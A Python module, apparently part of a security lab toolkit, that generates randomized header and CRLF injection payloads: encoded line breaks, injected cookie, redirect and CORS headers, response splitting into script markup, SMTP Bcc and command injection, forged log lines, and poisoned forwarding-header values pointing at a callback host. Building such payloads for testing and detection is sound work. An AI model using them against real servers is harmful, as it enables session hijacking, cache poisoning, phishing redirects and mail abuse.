"""Header and CRLF injection (CWE-113, CWE-93): response splitting, mail headers, poisoned forwarding headers."""

from random import Random
from typing import Final

from secmlops.web_attacks.lab.grammar import Grammar, rules
from secmlops.web_attacks.lab.payloads.blocks import BLOCKS

_RULES: Final = rules(
    r"""
start
    «before»«eol»«header»
    «before»«eol»«header»
    «before»«eol»«header»
    «before»«eol»«header»
    «before»«eol»«header»«eol»«header»
    «before»«eol»«eol»«content»
    «before»«eol»«header»«eol»«eol»«content»
    «before»«eol»HTTP/1.1 200 OK«eol»«header»«eol»«eol»«content»
    «before»«eol»«mail»
    «before»«eol»«mail»
    «before»«eol»«log»
before:
    «empty» «word» «n» /«label» http://«domain»/ «label»@«domain» en «label» «int:1-99»
eol
    «cr»«nl»
    «cr»«nl»
    «cr»«nl»
    «cr»«nl»
    «nl»
    «nl»
    «cr»
    %0d%0a
    %0a
    %250d%250a
    嘊嘍
    \r\n
    «cr»«nl»«tab»
    %E5%98%8A%E5%98%8D
    %u000d%u000a
    «cr»«cr»«nl»
    «space»«cr»«nl»
    %23%0d%0a
header
    Set-Cookie: «cookie»
    Set-Cookie: «cookie»
    Set-Cookie: «cookie»; Path=/; Domain=.«domain»
    Set-Cookie:«cookie»
    Location: http://«callback»/«label»
    Location: //«callback»
    Refresh: 0;url=http://«callback»
    X-«Label»: «alnum:8»
    X-Injected: «alnum:6»
    «label»: «alnum:6»
    Content-Type: text/html
    Content-Type: text/html; charset=UTF-7
    Content-Length: 0
    Content-Length: «int:1-400»
    X-XSS-Protection: 0
    Access-Control-Allow-Origin: http://«callback»
    Access-Control-Allow-Origin: *
    Transfer-Encoding: chunked
    Link: <http://«callback»/«label».js>; rel=preload
    Content-Security-Policy: script-src «callback_host»
    Content-Disposition: attachment; filename=«label».html
    Host: «callback»
    X-Forwarded-Host: «callback»
    X-Accel-Redirect: /«label»
    Last-Modified: Mon, «int:10-28» Oct 20«int:18-26» 14:50:18 GMT
    Connection: keep-alive
    Cache-Control: public, max-age=«int:100-99999»
    Authorization: Basic «alnum:12»=
    Service-Worker-Allowed: /
Label:
    Test «label» Header Forwarded Role User
cookie:
    «lower:5»=«alnum:10» session=«hex:16» PHPSESSID=«hex:26» admin=true «label»=«label» role=«int:0-9»
    lang=«lower:2» crlf=«lower:6»
content
    <html><body>«word»</body></html>
    <script>alert(«int:1-999»)</script>
    <svg onload=alert(«int:1-99»)>
    <h1>«word»</h1>
    GET /«label» HTTP/1.1«eol»Host: «callback_host»
    <meta http-equiv=refresh content="0;url=//«callback»">
    «alnum:12»
    HTTP/1.1 302 Found«eol»Location: http://«callback»
    <img src=x onerror=alert(«int:1-99»)>
    <iframe src=//«callback»>
mail
    Bcc: «label»@«domain»
    Bcc:«label»@«domain»,«label»@«domain»
    Cc: «label»@«domain»
    To: «label»@«domain»
    Subject: «word»
    Reply-To: «label»@«domain»
    From: «who»@«domain»
    MIME-Version: 1.0«eol»Content-Type: text/html«eol»«eol»«word»
    .«eol»MAIL FROM:<«label»@«domain»>
    RCPT TO:<«label»@«domain»>
    DATA«eol»«word»
    X-Mailer: «label»
who:
    admin root noreply service «label»
log
    «ip» - - [«int:10-28»/Mar/2026:10:00:00 +0000] "GET /«label» HTTP/1.1" 200 «int:100-9999»
    INFO: login succeeded for «who»
    20«int:22-26»-03-01 12:00:00 WARN «label»: user «who» promoted
    {"level":"info","user":"«who»"}
    [+] «who» logged out
"""
)
_FORWARD_RULES: Final = rules(
    r"""
start
    «callback»/«label»
    «callback»:«port»
    «domain»@«callback»
    «domain».«callback»
    «domain», «callback»
    127.0.0.1, «callback»
    «callback»"><script src=//«callback»/«lower:2»></script>
    «callback»/?"><img src=x onerror=alert(«int:1-99»)>
    «callback»#
    localhost:«int:1-65535»
    «callback»?«domain»
    http://«callback»/
    «label»«space»«callback»
    «callback»%00.«domain»
    /«label»/..;/«label»
    //«callback»/%2f..
    «callback»%0d%0aSet-Cookie:%20«lower:3»=«alnum:5»
    -«callback»
"""
)
_GRAMMAR: Final = Grammar({**BLOCKS, **_RULES})
_FORWARD: Final = Grammar({**BLOCKS, **_FORWARD_RULES})

FORWARDING_HEADERS: Final = (
    "X-Forwarded-Host", "X-Host", "X-Forwarded-Server", "X-Original-URL", "X-Rewrite-URL", "Forwarded",
    "X-HTTP-Host-Override", "X-Forwarded-Scheme", "Proxy-Host", "X-Original-Host",
)  # fmt: skip


def forwarding(rng: Random) -> str:
    """A value for one of `FORWARDING_HEADERS` that makes a careless server build links to another host."""
    return _FORWARD.generate(rng)


def payload(rng: Random) -> str:
    """One text with line ends and headers where a single value was expected."""
    return _GRAMMAR.generate(rng)
